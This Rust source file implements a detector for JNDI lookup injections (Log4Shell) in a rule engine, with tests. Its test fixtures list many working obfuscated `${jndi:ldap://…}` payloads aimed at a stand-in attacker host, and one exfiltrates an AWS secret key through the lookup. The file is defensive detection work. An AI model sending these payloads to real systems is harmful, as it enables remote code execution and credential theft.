//! `@detectJndi`: a lookup by name that a logging library would carry out.
//!
//! Recognises `${jndi:…}` wherever it stands, also when its letters come out of nested lookups (`${lower:J}`, `${::-j}`,
//! `${env:X:-j}`, `${date:'j'}`), also when it is not closed. The nested lookups are resolved as the library would do it;
//! what comes out must begin with `jndi:`. A single letter out of a lookup is obfuscation and reported as such.
//!
//! Leaves every other `${…}`: `${name}`, `${env:HOME}`, `${PATH:-/usr/bin}` stand in ordinary configuration.

use std::ops::Range;

use super::evidence::Best;
use super::scan::starts_with;
use super::{Classes, Finding};

/// How deep lookups may be nested; deeper than this nobody writes them.
const DEPTH: usize = 32;

/// The `${` that opens a lookup.
pub(super) fn may_find(_: &[u8], classes: Classes) -> bool {
    classes.all(Classes::DOLLAR.or(Classes::BRACE))
}

pub(super) fn find(value: &[u8], _: Classes) -> Option<Finding> {
    let start = memchr::memmem::find(value, b"${")?;
    let mut best = Best::default();
    let mut resolver = Resolver::default();
    let mut at = start;
    while let Some(&byte) = value.get(at) {
        let found = match byte {
            b'$' if value.get(at + 1) == Some(&b'{') => {
                at += 1;
                resolver.open(at - 1)
            }
            b'}' => resolver.close(at + 1),
            0xc4 if value.get(at + 1) == Some(&0xb1) => {
                at += 1;
                resolver.push(b'i');
                None
            }
            // `$${` is the escaped form, which one more round of lookups unescapes.
            b'$' if value.get(at + 1) == Some(&b'$') => None,
            _ => {
                resolver.push(byte);
                None
            }
        };
        if best.keep(found) {
            return best.into_finding();
        }
        at += 1;
    }
    while !resolver.open.is_empty() {
        if best.keep(resolver.close(value.len())) {
            break;
        }
    }
    best.into_finding()
}

/// Resolves nested lookups from the inside out. Never holds more than the value has bytes; every byte is moved at most
/// [`DEPTH`] times.
#[derive(Debug, Default)]
struct Resolver {
    /// The text of the lookups that are open, inner after outer.
    text: Vec<u8>,
    /// For each of them where its text begins, and where it began in the value.
    open: Vec<(usize, usize)>,
}

impl Resolver {
    fn push(&mut self, byte: u8) {
        if !self.open.is_empty() {
            self.text.push(byte);
        }
    }

    fn open(&mut self, at: usize) -> Option<Finding> {
        if self.open.len() == DEPTH {
            let (_, first) = *self.open.first()?;
            return Some(Finding::certain("lookups nested deeper than any configuration nests them", first..at));
        }
        self.open.push((self.text.len(), at));
        None
    }

    fn close(&mut self, end: usize) -> Option<Finding> {
        let (start, at) = self.open.pop()?;
        let lookup = self.text.get(start..).unwrap_or_default();
        if is_jndi(lookup) {
            return Some(Finding::certain("JNDI lookup", at..end));
        }
        // `${url:…}` alone is how Spring writes a property with a default.
        let kinds = [
            b"script:javascript:".as_slice(),
            b"script:js:",
            b"script:groovy:",
            b"script:nashorn:",
            b"url:utf",
            b"dns:address|",
        ];
        if kinds.iter().any(|kind| starts_with(lookup, kind)) {
            return Some(Finding::certain("lookup that runs script or asks another server", at..end));
        }
        let result = resolve(lookup);
        let surroundings = [b"sys:".as_slice(), b"java:"].iter().any(|kind| starts_with(lookup, kind));
        let found = if result.len() == 1 && lookup.len() > 1 {
            Some(Finding::likely("lookup that hides a single letter", at..end))
        } else {
            (surroundings && result.is_empty())
                .then(|| Finding::likely("lookup of the program's surroundings", at..end))
        };
        let length = result.len();
        self.text.copy_within(start + result.start..start + result.end, start);
        self.text.truncate(start + length);
        found
    }
}

/// `jndi:`, with the white space a lenient reader skips.
fn is_jndi(lookup: &[u8]) -> bool {
    starts_with(lookup.trim_ascii_start(), b"jndi")
        && lookup.trim_ascii_start().get(4..).is_some_and(|rest| rest.trim_ascii_start().starts_with(b":"))
}

/// What a lookup yields: a part of its text.
fn resolve(lookup: &[u8]) -> Range<usize> {
    if let Some(at) = memchr::memmem::rfind(lookup, b":-") {
        return at + 2..lookup.len();
    }
    if starts_with(lookup, b"lower:") || starts_with(lookup, b"upper:") {
        return 6..lookup.len();
    }
    if starts_with(lookup, b"date:'") && lookup.len() > 7 && lookup.ends_with(b"'") {
        return 6..lookup.len() - 1;
    }
    0..0
}

#[cfg(test)]
mod tests {
    use crate::detect::check::{is_certain_of, is_linear_in, is_quiet_about};
    use crate::seclang::ast::OperatorKind::DetectJndi;

    #[test]
    fn finds_lookups_plain_and_nested() {
        is_certain_of(
            DetectJndi,
            &[
                "${jndi:ldap://evil.example/a}",
                "${jndi:rmi://evil.example/a}",
                "${url:UTF-8:http://evil.example/}",
                "${script:javascript:1+1}",
                "${jndi:dns://evil.example}",
                "${jndi:ldaps://127.0.0.1#evil.example/a}",
                "${JNDI:LDAP://EVIL.EXAMPLE/a}",
                "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
                "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
                "${${lower:j}ndi:ldap://evil.example/a}",
                "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://evil.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
                "${${::-j}ndi:rmi://evil.example/a}",
                "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}",
                "${${env:BARFOO:-j}ndi:ldap://evil.example/a}",
                "${${sys:x:-j}ndi:ldap://evil.example/a}",
                "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
                "${j${main:\\k5:-Nd}i:ldap://evil.example/a}",
                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
                "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
                "${jnd${upper:ı}:ldap://evil.example/a}",
                "${jndi:ldap://evil.example/a",
                "${ jndi:ldap://evil.example/a}",
                "${jndi :ldap://evil.example/a}",
                "x=${jndi:ldap://${hostName}.evil.example/a}",
                "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/}",
                "${${lower:${lower:jndi}}:ldap://evil.example/a}",
                "${${lower:jn}${lower:di}:ldap://evil.example}",
                "${${upper:jndi}:${upper:rmi}://evil.example}",
                "{\"user\":\"${jndi:ldap://evil.example/a}\"}",
                "$${jndi:ldap://evil.example/a}",
                "${a:-${b:-${jndi:ldap://evil.example/a}}}",
                "${${::-${::-$${::-j}}}ndi:ldap://evil.example/a}",
                "${::-${jndi:dns://evil.example/x}}",
            ],
        );
    }

    #[test]
    fn leaves_configuration_and_templates_alone() {
        is_quiet_about(
            DetectJndi,
            &[
                "${name}",
                "${env:HOME}",
                "${PATH:-/usr/bin}",
                "${FOO:-${BAR}}",
                "jndi:ldap://evil.example",
                "jndi",
                "{jndi:x}",
                "${user.home}/lib",
                "Hello ${first} ${last}",
                "`${a + b}`",
                "the ${jndi} lookup",
                "cost: ${price:-free}",
                "${date:yyyy-MM-dd}",
                "${lower:NAME}",
                "$ {jndi:ldap}",
                "${ssm:/my/param}",
                "${self:provider.stage}",
                "${opt:stage, 'dev'}",
                "}}}}",
                "${",
                "${}",
                "a}b{c$",
            ],
        );
    }

    #[test]
    fn takes_linear_time() {
        is_linear_in(
            DetectJndi,
            &[
                "${",
                "${a:-",
                "${jnd}",
                "}",
                "${a:-}",
                "${lower:${x}",
                ":-",
                "${a:-b}${c:-ddddddddddddddddddddddddddddddddddd",
            ],
        );
    }
}
